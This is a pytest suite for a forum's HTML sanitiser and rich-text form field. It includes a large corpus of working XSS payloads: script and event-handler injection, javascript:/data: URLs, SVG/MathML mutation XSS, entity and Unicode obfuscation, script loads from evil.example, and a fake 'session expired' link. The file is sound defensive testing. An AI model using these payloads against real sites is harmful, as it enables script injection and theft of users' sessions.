"""`core.sanitize.sanitize_html` and `core.forms.RichTextField`.

User rich text is sanitised once, on the way in, and later rendered as safe HTML, so the
sanitiser is the only thing between a forum post and a reader's browser. The issue asks
for an allowlist (p, br, strong, em, ul, ol, li, blockquote, code, pre, and a with an
http/https/mailto href and rel="nofollow ugc noopener"), a length limit, and a corpus of
XSS payloads of which none survives.

"Survives" is judged by an oracle that parses the output the way a browser would, not by
looking for strings: see `assert_safe_html`. Every payload's output must also be stable
when sanitised again (idempotence), which is how mutation XSS shows itself.
"""

import html
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest

# The HTML5 (WHATWG) parser bleach itself uses; bleach vendors it. It builds the tree a
# browser builds, including SVG and MathML foreign content, so it is the second opinion
# next to the standard library's tokenizer.
from bleach._vendor import html5lib
from django import forms
from django.core.exceptions import ValidationError

import core.sanitize
from core.forms import RichTextField
from core.sanitize import html_to_text, sanitize_html

# The policy, spelled out from the issue rather than imported from the code under test.
ALLOWED_TAGS = frozenset(
    {"p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "code", "pre", "a"}
)
LINK_REL = "nofollow ugc noopener"
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
DANGEROUS_IN_MARKUP = ("<script", "javascript:", "vbscript:", "livescript:", "data:text/html")

XHTML_NS = "{http://www.w3.org/1999/xhtml}"
# What a browser ignores or an attacker hides inside a URL: ASCII whitespace and controls
# (C0, DEL, C1), Unicode whitespace, soft hyphen, zero-width and bidi controls, BOM.
_URL_INVISIBLES = re.compile(
    r"[\x00-\x20\x7f-\xa0\s\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]"
)
_URL_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
# A complete tag as it appears in serialised HTML; quoted attribute values may contain ">".
_RAW_TAG = re.compile(r"""<[^>"']*(?:(?:"[^"]*"|'[^']*')[^>"']*)*>""")


def normalise_url(value: str) -> str:
    """A decoded attribute value as a scheme check should see it: no hidden characters,
    lower case. Not unescaped again: a browser decodes entities once, so the stored
    "javascript&amp;colon;" is the harmless relative URL "javascript&colon;"."""
    return _URL_INVISIBLES.sub("", value).lower()


def url_scheme(value: str) -> str | None:
    """The scheme of a (normalised) URL, or None for a relative URL."""
    match = _URL_SCHEME.match(normalise_url(value))
    return match.group(1) if match else None


class _MarkupCollector(HTMLParser):
    """Records every tag, attribute, comment, declaration and processing instruction."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.start_tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.end_tags: list[str] = []
        self.other: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.start_tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.start_tags.append((tag, attrs))

    def handle_endtag(self, tag):
        self.end_tags.append(tag)

    def handle_comment(self, data):
        self.other.append(("comment", data))

    def handle_decl(self, decl):
        self.other.append(("declaration", decl))

    def unknown_decl(self, data):
        self.other.append(("declaration", data))

    def handle_pi(self, data):
        self.other.append(("processing instruction", data))


def _assert_safe_element(tag: str, attrs: dict[str, str | None], source: str, where: str):
    assert tag in ALLOWED_TAGS, f"{where}: element <{tag}> is not allowed in {source!r}"
    assert not [name for name in attrs if name.lower().startswith("on")], (
        f"{where}: event handler on <{tag}> in {source!r}"
    )
    if tag != "a":
        assert not attrs, f"{where}: <{tag}> has attributes {attrs} in {source!r}"
        return
    assert set(attrs) == {"href", "rel"}, f"{where}: <a> attributes {attrs} in {source!r}"
    assert attrs["rel"] == LINK_REL, f"{where}: <a rel={attrs['rel']!r}> in {source!r}"
    href = attrs["href"] or ""
    scheme = url_scheme(href)
    # bleach keeps scheme-less (relative, fragment, protocol-relative) links; they run no
    # script. Anything with a scheme must be one of the three allowed.
    assert scheme is None or scheme in SAFE_SCHEMES, (
        f"{where}: <a href={href!r}> has scheme {scheme!r} in {source!r}"
    )


def assert_safe_html(source: str) -> None:
    """Fail unless `source` is HTML within the policy, as seen by two different parsers.

    (a) every element is allowlisted, (b) only href and rel, only on <a>, (c) every href is
    http:, https:, mailto: or scheme-less after unescaping and removing hidden characters,
    (d) rel is exactly LINK_REL, (e) no on* attribute, (f) no script tag or script URL
    anywhere in the markup (escaped text such as "&lt;script&gt;" is harmless and allowed);
    also no comments, doctypes, CDATA or processing instructions.
    """
    # 1. The standard-library tokenizer; attribute values come back entity-decoded.
    collector = _MarkupCollector()
    collector.feed(source)
    collector.close()
    assert not collector.other, f"html.parser: {collector.other} in {source!r}"
    for tag, attr_list in collector.start_tags:
        names = [name for name, _ in attr_list]
        assert len(names) == len(set(names)), f"duplicate attributes {names} in {source!r}"
        _assert_safe_element(tag, dict(attr_list), source, "html.parser")
    for tag in collector.end_tags:
        assert tag in ALLOWED_TAGS, f"html.parser: end tag </{tag}> in {source!r}"

    # 2. The HTML5 tree-construction algorithm, as in a browser: an <svg> or <math>
    # element, or anything in their namespaces, would show up here even if hidden from 1.
    fragment = html5lib.parseFragment(source, treebuilder="etree")
    for element in fragment.iter():
        if element is fragment:
            continue
        assert element.tag is not ElementTree.Comment, f"html5lib: comment in {source!r}"
        assert isinstance(element.tag, str), f"html5lib: node {element.tag!r} in {source!r}"
        assert element.tag.startswith(XHTML_NS), (
            f"html5lib: foreign element {element.tag} in {source!r}"
        )
        tag = element.tag.removeprefix(XHTML_NS)
        assert all(not name.startswith("{") for name in element.attrib), (
            f"html5lib: namespaced attribute {dict(element.attrib)} in {source!r}"
        )
        _assert_safe_element(tag, dict(element.attrib), source, "html5lib")

    # 3. The raw text, without any parser: every "<" opens an allowlisted tag (text "<" is
    # always escaped), and no tag contains a script tag or script URL, however encoded.
    for match in re.finditer("<", source):
        name = re.match(r"</?([A-Za-z][A-Za-z0-9]*)", source[match.start() :])
        assert name and name.group(1).lower() in ALLOWED_TAGS, (
            f"raw '<' at {match.start()} does not open an allowed tag in {source!r}"
        )
    for raw_tag in _RAW_TAG.findall(source):
        seen = normalise_url(html.unescape(raw_tag))
        for needle in DANGEROUS_IN_MARKUP:
            assert needle not in seen, f"{needle!r} in markup {raw_tag!r} of {source!r}"


# Payloads that must come out harmless. Ids are "<category>-<what>"; the categories are
# checked for coverage in test_corpus_is_large_distinct_and_covers_every_category.
XSS_PAYLOADS = [
    # --- <script> ---------------------------------------------------------------------
    pytest.param("<script>alert(1)</script>", id="script-plain"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", id="script-upper-case"),
    pytest.param("<ScRiPt>alert(document.cookie)</sCrIpT>", id="script-mixed-case"),
    pytest.param('<script src="https://evil.example/x.js"></script>', id="script-src"),
    pytest.param("<script/xss src=//evil.example/x.js></script>", id="script-slash-attribute"),
    pytest.param('<script type="text/javascript">alert(1)</script>', id="script-type"),
    pytest.param("<script\n>alert(1)</script\n>", id="script-newline-in-tag"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-nested-split"),
    pytest.param("<<script>alert(1);//<</script>", id="script-double-open"),
    pytest.param("<script>alert(1)", id="script-unclosed"),
    pytest.param("<p>Hello<script>alert(1)</script></p>", id="script-inside-allowed-tag"),
    pytest.param(
        "<script>document.write('<scr'+'ipt src=//evil.example></scr'+'ipt>')</script>",
        id="script-concatenated-in-js",
    ),
    # --- event handlers -----------------------------------------------------------------
    pytest.param('<p onclick="alert(1)">x</p>', id="event-p-onclick"),
    pytest.param('<strong onmouseover="alert(1)">bold</strong>', id="event-strong"),
    pytest.param("<em/onclick=alert(1)>x</em>", id="event-slash-separated"),
    pytest.param('<blockquote ONCLICK="alert(1)">q</blockquote>', id="event-upper-case"),
    pytest.param('<a href="https://example.com" onmouseover="alert(1)">x</a>', id="event-a-https"),
    pytest.param("<a href=x onmouseover=alert(1)>x</a>", id="event-a-unquoted"),
    pytest.param(
        '<a href="https://example.com/"onmouseover="alert(1)">x</a>', id="event-a-no-space"
    ),
    pytest.param("<img src=x onerror=alert(1)>", id="event-img-onerror"),
    pytest.param('<img src="x" onerror="&#97;lert(1)">', id="event-img-entity-in-handler"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="event-img-slashes"),
    pytest.param("<body onload=alert(1)>", id="event-body-onload"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="event-input-autofocus"),
    pytest.param("<details open ontoggle=alert(1)>", id="event-details-ontoggle"),
    pytest.param("<video><source onerror=alert(1)></video>", id="event-video-source"),
    pytest.param("<br/onload=alert(1)>", id="event-br"),
    pytest.param("<li onpointerenter=alert(1)>x</li>", id="event-li-pointer"),
    # --- javascript:, vbscript:, livescript:, data: URLs -----------------------------------
    pytest.param('<a href="javascript:alert(1)">x</a>', id="url-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="url-javascript-mixed-case"),
    pytest.param("<a href=javascript:alert(1)>x</a>", id="url-javascript-unquoted"),
    pytest.param("<a href='javascript:alert(1)'>x</a>", id="url-javascript-single-quoted"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="url-entity-tab"),
    pytest.param('<a href="jav&#x0A;ascript:alert(1)">x</a>', id="url-entity-newline"),
    pytest.param('<a href="java&Tab;script:alert(1)">x</a>', id="url-named-entity-tab"),
    pytest.param('<a href="java&NewLine;script:alert(1)">x</a>', id="url-named-entity-newline"),
    pytest.param('<a href="&#106;avascript:alert(1)">x</a>', id="url-decimal-entity"),
    pytest.param('<a href="&#106avascript:alert(1)">x</a>', id="url-entity-no-semicolon"),
    pytest.param(
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
        'alert(1)">x</a>',
        id="url-all-hex-entities",
    ),
    pytest.param(
        '<a href="&#0000106&#0000097vascript&#0000058alert(1)">x</a>',
        id="url-padded-entities-no-semicolon",
    ),
    pytest.param('<a href="javascript&#58;alert(1)">x</a>', id="url-entity-colon"),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="url-named-entity-colon"),
    pytest.param('<a href="   javascript:alert(1)">x</a>', id="url-leading-spaces"),
    pytest.param('<a href="&#x20;javascript:alert(1)">x</a>', id="url-leading-entity-space"),
    pytest.param('<a href="\x01\x02\x1fjavascript:alert(1)">x</a>', id="url-leading-controls"),
    pytest.param('<a href="java\x00script:alert(1)">x</a>', id="url-nul-inside"),
    pytest.param('<a href="java&#0;script:alert(1)">x</a>', id="url-entity-nul-inside"),
    pytest.param('<a href="%6A%61vascript:alert(1)">x</a>', id="url-percent-encoded"),
    pytest.param('<a href="javascript://%0Aalert(1)">x</a>', id="url-javascript-comment"),
    pytest.param(
        '<a href="https://example.com" href="javascript:alert(1)">x</a>',
        id="url-duplicate-href",
    ),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="url-vbscript"),
    pytest.param('<a href="VBScript:MsgBox(1)">x</a>', id="url-vbscript-mixed-case"),
    pytest.param('<a href="livescript:alert(1)">x</a>', id="url-livescript"),
    pytest.param(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        id="url-data-base64",
    ),
    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>', id="url-data-html"),
    pytest.param(
        '<a href="DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E">x</a>', id="url-data-upper-case"
    ),
    pytest.param(
        '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>',
        id="url-data-svg",
    ),
    pytest.param('<a href="javascript:1">x</a>', id="url-javascript-digits"),
    pytest.param('<a href="vbscript:0">x</a>', id="url-vbscript-digits"),
    # Verified in Chromium: clicking it replaces the page, on the platform's own origin,
    # with the attacker's text "1 您的会话已过期" ("your session has expired").
    pytest.param(
        '<a href="javascript:`1 您的会话已过期`">x</a>',
        id="url-javascript-template-digits",
    ),
    pytest.param("See data://example.com/x here", id="url-data-linkified"),
    pytest.param(
        "data:text.com/html;base64,PHNjcmlwdD4 here",
        id="url-data-mime-linkified",
    ),
    # --- SVG --------------------------------------------------------------------------
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg/onload=alert(1)//", id="svg-onload-unclosed"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param("<svg><script>alert&#40;1&#41;</script></svg>", id="svg-script-entities"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        id="svg-a-xlink-href",
    ),
    pytest.param(
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text x="20" y="20">click</text></a></svg>',
        id="svg-animate-href",
    ),
    pytest.param(
        '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', id="svg-set-handler"
    ),
    pytest.param("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", id="svg-onbegin"),
    pytest.param(
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
        id="svg-use-data",
    ),
    pytest.param("<svg><style><img src=x onerror=alert(1)></style></svg>", id="svg-style-mxss"),
    pytest.param(
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', id="svg-p-style-mxss"
    ),
    pytest.param(
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
        "</foreignObject></svg>",
        id="svg-foreignobject",
    ),
    # --- MathML -----------------------------------------------------------------------
    pytest.param(
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>", id="math-mglyph-style"
    ),
    pytest.param(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
        id="math-mglyph-comment-mxss",
    ),
    pytest.param(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        id="math-nested-form-mxss",
    ),
    pytest.param('<math href="javascript:alert(1)">click</math>', id="math-href"),
    pytest.param(
        '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">'
        "click</maction></math>",
        id="math-maction-xlink",
    ),
    pytest.param(
        '<math><mi xlink:href="data:x,<script>alert(1)</script>">click</mi></math>',
        id="math-mi-data",
    ),
    # --- style ------------------------------------------------------------------------
    pytest.param('<style>body{background:url("javascript:alert(1)")}</style>', id="style-tag"),
    pytest.param("<style>@import 'https://evil.example/x.css';</style>", id="style-import"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-attr-url"),
    pytest.param('<p style="width:expression(alert(1))">x</p>', id="style-expression"),
    pytest.param(
        '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>', id="style-binding"
    ),
    pytest.param('<em style="behavior:url(x.htc)">x</em>', id="style-behavior"),
    # --- embedding elements and other dangerous elements ------------------------------------
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="embed-iframe-src"),
    pytest.param(
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', id="embed-srcdoc"
    ),
    pytest.param('<object data="javascript:alert(1)"></object>', id="embed-object"),
    pytest.param(
        '<object><param name="src" value="javascript:alert(1)"></object>', id="embed-param"
    ),
    pytest.param(
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', id="embed-embed"
    ),
    pytest.param('<applet code="javascript:alert(1)"></applet>', id="embed-applet"),
    pytest.param(
        '<form action="javascript:alert(1)"><input type=submit></form>', id="embed-form-action"
    ),
    pytest.param(
        '<form><button formaction="javascript:alert(1)">x</button></form>', id="embed-formaction"
    ),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="embed-meta-refresh"
    ),
    pytest.param('<base href="javascript:alert(1)//">', id="embed-base-href"),
    pytest.param('<link rel="stylesheet" href="javascript:alert(1)">', id="embed-link"),
    pytest.param("<template><script>alert(1)</script></template>", id="embed-template"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="embed-noscript-mxss"
    ),
    pytest.param('<xmp><p title="</xmp><img src=x onerror=alert(1)>">', id="embed-xmp-mxss"),
    pytest.param('<title><p title="</title><img src=x onerror=alert(1)>">', id="embed-title-mxss"),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="embed-textarea"),
    pytest.param("<plaintext><script>alert(1)</script>", id="embed-plaintext"),
    pytest.param("<frameset onload=alert(1)>", id="embed-frameset"),
    pytest.param("<isindex action=javascript:alert(1) type=submit>", id="embed-isindex"),
    # --- comments, conditional comments, CDATA, doctypes, processing instructions ---------
    pytest.param("<!--><script>alert(1)</script>-->", id="comment-abrupt-close"),
    pytest.param("<!--<script>alert(1)</script>-->", id="comment-hiding-script"),
    pytest.param("<!-- --!><img src=x onerror=alert(1)> -->", id="comment-bang-close"),
    pytest.param(
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", id="comment-conditional"
    ),
    pytest.param(
        "<![if !IE]><img src=x onerror=alert(1)><![endif]>", id="comment-downlevel-revealed"
    ),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="comment-cdata"),
    pytest.param("<svg><![CDATA[<]]>img src=x onerror=alert(1)//</svg>", id="comment-svg-cdata"),
    pytest.param("<!DOCTYPE html><script>alert(1)</script>", id="comment-doctype"),
    pytest.param('<?xml-stylesheet href="javascript:alert(1)"?>x', id="comment-pi"),
    # --- broken, unclosed and nested tags; quoting breaks ----------------------------------
    pytest.param('<a href="javascript:alert(1)', id="broken-unclosed-href"),
    pytest.param('<a href="javascript:alert(1)">unclosed', id="broken-unclosed-a"),
    pytest.param('"><script>alert(1)</script>', id="broken-double-quote-break"),
    pytest.param("'><img src=x onerror=alert(1)>", id="broken-single-quote-break"),
    pytest.param('<img """><script>alert(1)</script>">', id="broken-triple-quote"),
    pytest.param('<p title="</p><script>alert(1)</script>">x</p>', id="broken-tag-in-attr"),
    pytest.param(
        '<a href="https://example.com/"><a href="javascript:alert(1)">y</a></a>',
        id="broken-nested-a",
    ),
    pytest.param("<<p>script>alert(1)<</p>/script>", id="broken-interleaved"),
    pytest.param("</p><script>alert(1)</script><p>", id="broken-stray-end-tag"),
    pytest.param('<a href="https://example.com" <script>alert(1)</script>>', id="broken-in-tag"),
    pytest.param("<p <img src=x onerror=alert(1)>>x", id="broken-tag-in-tag"),
    pytest.param("<img src=x onerror=alert(1)//", id="broken-unterminated-img"),
    # --- entity tricks ------------------------------------------------------------------
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", id="entity-named-lt"),
    pytest.param("&#60;script&#62;alert(1)&#60;/script&#62;", id="entity-decimal-lt"),
    pytest.param("&#x3C;img src=x onerror=alert(1)&#x3E;", id="entity-hex-lt"),
    pytest.param("&amp;lt;script&amp;gt;alert(1)", id="entity-double-encoded"),
    pytest.param("&LT;script&GT;alert(1)&LT;/script&GT;", id="entity-upper-case"),
    pytest.param(r"\u003cscript\u003ealert(1)\u003c/script\u003e", id="entity-js-escape"),
    pytest.param("%3Cscript%3Ealert(1)%3C/script%3E", id="entity-percent-encoded"),
    # --- Unicode tricks -----------------------------------------------------------------
    pytest.param("＜script＞alert(1)＜/script＞", id="unicode-fullwidth-brackets"),
    pytest.param("\ufe64script\ufe65alert(1)\ufe64/script\ufe65", id="unicode-small-brackets"),
    pytest.param('<a href="java\u200bscript:alert(1)">x</a>', id="unicode-zero-width-space"),
    pytest.param('<a href="java\u200dscript:alert(1)">x</a>', id="unicode-zero-width-joiner"),
    pytest.param('<a href="java\u00adscript:alert(1)">x</a>', id="unicode-soft-hyphen"),
    pytest.param('<a href="\u202ejavascript:alert(1)">x</a>', id="unicode-rtl-override"),
    pytest.param('<a href="\ufeffjavascript:alert(1)">x</a>', id="unicode-bom"),
    pytest.param('<a href="javascript\uff1aalert(1)">x</a>', id="unicode-fullwidth-colon"),
    pytest.param('<a href="\u0458avascript:alert(1)">x</a>', id="unicode-cyrillic-je"),
    pytest.param("<scr\u0131pt>alert(1)</scr\u0131pt>", id="unicode-dotless-i"),
    pytest.param("<\u017fcript>alert(1)</\u017fcript>", id="unicode-long-s"),
    pytest.param("<scr\u200dipt>alert(1)</scr\u200dipt>", id="unicode-zwj-in-tag"),
    pytest.param(
        '<a href="https://evil.example/\u202egpj.exe">photo</a>', id="unicode-rtl-in-link"
    ),
    # --- off-site links: not script, accepted with rel="nofollow ugc noopener" -------------
    pytest.param('<a href="//evil.example/x">x</a>', id="offsite-protocol-relative"),
    pytest.param('<a href="\\\\evil.example/x">x</a>', id="offsite-backslashes"),
]

CATEGORIES = (
    "script",
    "event",
    "url",
    "svg",
    "math",
    "style",
    "embed",
    "comment",
    "broken",
    "entity",
    "unicode",
    "offsite",
)


def _payload_ids():
    return [param.id for param in XSS_PAYLOADS]


def test_corpus_is_large_distinct_and_covers_every_category():
    payloads = [param.values[0] for param in XSS_PAYLOADS]
    ids = _payload_ids()
    assert len(payloads) >= 70
    assert len(set(payloads)) == len(payloads), "duplicate payloads"
    assert len(set(ids)) == len(ids), "duplicate ids"
    assert {payload_id.split("-")[0] for payload_id in ids} == set(CATEGORIES)
    for category in CATEGORIES:
        assert sum(1 for i in ids if i.startswith(category + "-")) >= 2, category


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised_and_output_is_stable(payload):
    out = sanitize_html(payload)
    assert_safe_html(out)
    assert sanitize_html(out) == out, "sanitising the output again changed it"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_through_rich_text_field_is_safe_or_refused_as_empty(payload):
    form = _PostForm(data={"body": payload})
    if form.is_valid():
        assert_safe_html(form.cleaned_data["body"])
    else:
        # Django's CharField refuses NUL outright, before sanitising.
        assert form.has_error("body", code="empty") or form.has_error(
            "body", code="null_characters_not_allowed"
        ), form.errors


# --- the oracle itself --------------------------------------------------------------------


@pytest.mark.parametrize(
    "unsafe",
    [
        pytest.param("<script>alert(1)</script>", id="script"),
        pytest.param("<SCRIPT>alert(1)</SCRIPT>", id="script-upper"),
        pytest.param("<svg></svg>", id="svg"),
        pytest.param("<math><mi>x</mi></math>", id="math"),
        pytest.param("<div>x</div>", id="div"),
        pytest.param('<p onclick="alert(1)">x</p>', id="event-handler"),
        pytest.param('<p title="x">x</p>', id="attribute-on-p"),
        pytest.param('<a href="https://example.com">x</a>', id="missing-rel"),
        pytest.param('<a href="https://example.com" rel="nofollow">x</a>', id="wrong-rel"),
        pytest.param('<a rel="nofollow ugc noopener">x</a>', id="missing-href"),
        pytest.param(
            '<a href="https://example.com" rel="nofollow ugc noopener" target="_blank">x</a>',
            id="extra-attribute",
        ),
        pytest.param('<a href="javascript:alert(1)" rel="nofollow ugc noopener">x</a>', id="js"),
        pytest.param(
            '<a href="&#106;avascript:alert(1)" rel="nofollow ugc noopener">x</a>',
            id="js-entity",
        ),
        pytest.param(
            '<a href="java&#9;script:alert(1)" rel="nofollow ugc noopener">x</a>', id="js-tab"
        ),
        pytest.param(
            '<a href=" JAVASCRIPT:alert(1)" rel="nofollow ugc noopener">x</a>', id="js-space"
        ),
        pytest.param('<a href="data:text/html,x" rel="nofollow ugc noopener">x</a>', id="data"),
        pytest.param('<a href="tel:123" rel="nofollow ugc noopener">x</a>', id="tel"),
        pytest.param("<!-- x -->", id="comment"),
        pytest.param("<!DOCTYPE html>", id="doctype"),
        pytest.param("a <b", id="raw-less-than"),
    ],
)
def test_oracle_rejects_html_outside_the_policy(unsafe):
    with pytest.raises(AssertionError):
        assert_safe_html(unsafe)


def test_oracle_accepts_html_within_the_policy():
    assert_safe_html(
        "<p>a &lt;script&gt; b &amp; c</p><ul><li><strong>x</strong></li></ul><br>"
        '<a href="https://example.com/?a=1&amp;b=2" rel="nofollow ugc noopener">y</a>'
        '<a href="mailto:x@example.com" rel="nofollow ugc noopener">m</a>'
        '<a href="/en/forums/" rel="nofollow ugc noopener">r</a>'
        '<a href="#top" rel="nofollow ugc noopener">t</a>'
    )


# --- what a user notices: allowed formatting survives ------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        pytest.param(
            "<p>Hello <strong>bold</strong> and <em>stressed</em> words.</p>", id="emphasis"
        ),
        pytest.param("<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>", id="lists"),
        pytest.param("<blockquote><p>Quoted text.</p></blockquote>", id="blockquote"),
        pytest.param(
            "<p>Use <code>x &lt; y</code>:</p><pre><code>if a &lt; b:\n    pass</code></pre>",
            id="code-and-pre",
        ),
        pytest.param("first line<br>second line", id="line-break"),
    ],
)
def test_allowed_formatting_survives_unchanged(markup):
    assert sanitize_html(markup) == markup


def test_https_link_gets_rel_nofollow_ugc_noopener():
    assert sanitize_html('<a href="https://bch.cbd.int/protocol">Protocol</a>') == (
        '<a href="https://bch.cbd.int/protocol" rel="nofollow ugc noopener">Protocol</a>'
    )


def test_user_supplied_rel_and_target_are_replaced_by_the_fixed_rel():
    out = sanitize_html(
        '<a href="https://example.com" rel="opener" target="_blank" title="t">x</a>'
    )
    assert out == '<a href="https://example.com" rel="nofollow ugc noopener">x</a>'


def test_mailto_link_survives_with_rel():
    assert sanitize_html('<a href="mailto:focal.point@example.org">write</a>') == (
        '<a href="mailto:focal.point@example.org" rel="nofollow ugc noopener">write</a>'
    )


def test_plain_url_in_text_is_linkified_with_rel():
    assert sanitize_html("See https://bch.cbd.int/ for details.") == (
        'See <a href="https://bch.cbd.int/" rel="nofollow ugc noopener">'
        "https://bch.cbd.int/</a> for details."
    )


def test_bare_www_address_is_linkified_as_http():
    assert sanitize_html("www.example.com") == (
        '<a href="http://www.example.com" rel="nofollow ugc noopener">www.example.com</a>'
    )


def test_urls_inside_code_and_pre_are_not_linkified():
    markup = "<pre>https://example.com</pre><p><code>https://example.org</code></p>"
    assert sanitize_html(markup) == markup


def test_links_inside_code_still_get_the_rel():
    assert sanitize_html('<code><a href="https://example.com">x</a></code>') == (
        '<code><a href="https://example.com" rel="nofollow ugc noopener">x</a></code>'
    )


def test_anchor_without_href_becomes_its_text():
    assert sanitize_html('<p><a name="x">just text</a></p>') == "<p>just text</p>"


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("/en/forums/", True),
        ("#comments", True),
        ("?page=2", True),
        ("//cbd.int/biosafety", True),  # protocol-relative: an ordinary off-site link
        ("HTTPS://EXAMPLE.COM/", True),
        ("ftp://example.com/file", False),
        ("file:///etc/passwd", False),
        ("javascript:alert(1)", False),
    ],
)
def test_relative_links_are_kept_and_foreign_schemes_dropped(href, kept):
    out = sanitize_html(f'<a href="{href}">link</a>')
    if kept:
        assert out == f'<a href="{href}" rel="nofollow ugc noopener">link</a>'
    else:
        assert out == "link"


@pytest.mark.parametrize(
    "markup",
    [
        pytest.param('<a href="tel:5551234">call</a>', id="tel-digits"),
        pytest.param("Download ftp://example.com/file now", id="linkified-ftp"),
        pytest.param(
            "Chat on irc://irc.example.net/biosafety",
            id="linkified-irc",
        ),
        pytest.param("Subscribe feed:example.com/rss", id="linkified-feed"),
        pytest.param("Ping xmpp:user@example.com", id="linkified-xmpp"),
        pytest.param("ssh://host.example.com", id="linkified-ssh"),
    ],
)
def test_only_http_https_and_mailto_links_are_produced(markup):
    out = sanitize_html(markup)
    for href in re.findall(r'href="([^"]*)"', out):
        assert url_scheme(href) in (None, *SAFE_SCHEMES), out
    assert sanitize_html(out) == out


def test_disallowed_tags_are_stripped_but_their_text_kept():
    assert sanitize_html("<h1>Title</h1><div>body <span>text</span></div>") == ("Title\nbody text")


def test_less_than_and_ampersand_are_kept_as_escaped_text():
    out = sanitize_html("a < b & c > d, AT&T")
    assert out == "a &lt; b &amp; c &gt; d, AT&amp;T"
    assert html_to_text(out) == "a < b & c > d, AT&T"


def test_escaped_script_is_kept_as_visible_text():
    out = sanitize_html("Never write &lt;script&gt; in a post.")
    assert out == "Never write &lt;script&gt; in a post."
    assert html_to_text(out) == "Never write <script> in a post."


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<p>《卡塔赫纳生物安全议定书》旨在保护生物多样性。</p>", id="chinese"),
        pytest.param("<p>بروتوكول قرطاجنة للسلامة الأحيائية</p>", id="arabic"),
        pytest.param("<p>Protocole de Cartagena — «biosécurité» ✓</p>", id="french-symbols"),
    ],
)
def test_non_latin_text_survives_unchanged(text):
    assert sanitize_html(text) == text


def test_nul_is_removed_because_postgresql_rejects_it():
    out = sanitize_html("bio\x00safety")
    assert out == "biosafety"
    assert "\x00" not in out


def test_c0_control_characters_and_del_are_removed_but_tab_and_newline_kept():
    controls = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])
    out = sanitize_html(f"a{controls}b\x7fc\td\ne")
    assert out == "abc\td\ne"


def test_control_characters_inside_a_link_are_removed():
    assert sanitize_html('<a href="https://exa\x00mple.com/\x1b">x\x07</a>') == (
        '<a href="https://example.com/" rel="nofollow ugc noopener">x</a>'
    )


def test_surrounding_whitespace_is_stripped():
    assert sanitize_html("  \n<p>x</p>\n\n ") == "<p>x</p>"


def test_script_and_style_are_dropped_with_their_contents():
    # Code is not prose: readers should not see it as text (e.g. style blocks pasted from Word).
    assert sanitize_html("<script>alert('<b>x</b>')</script>") == ""
    assert sanitize_html("<style>p{color:red}</style>ok") == "ok"
    assert sanitize_html("<p>before</p><SCRIPT type=x>never</SCRIPT ><p>after</p>") == (
        "<p>before</p><p>after</p>"
    )
    assert sanitize_html("<p>kept</p><script>unclosed runs to the end") == "<p>kept</p>"


# --- length limit --------------------------------------------------------------------------


def test_text_over_the_limit_is_refused_with_too_long_naming_the_limit():
    with pytest.raises(ValidationError) as excinfo:
        sanitize_html("x" * 1235, max_length=1234)
    assert excinfo.value.code == "too_long"
    assert "1234" in excinfo.value.messages[0]
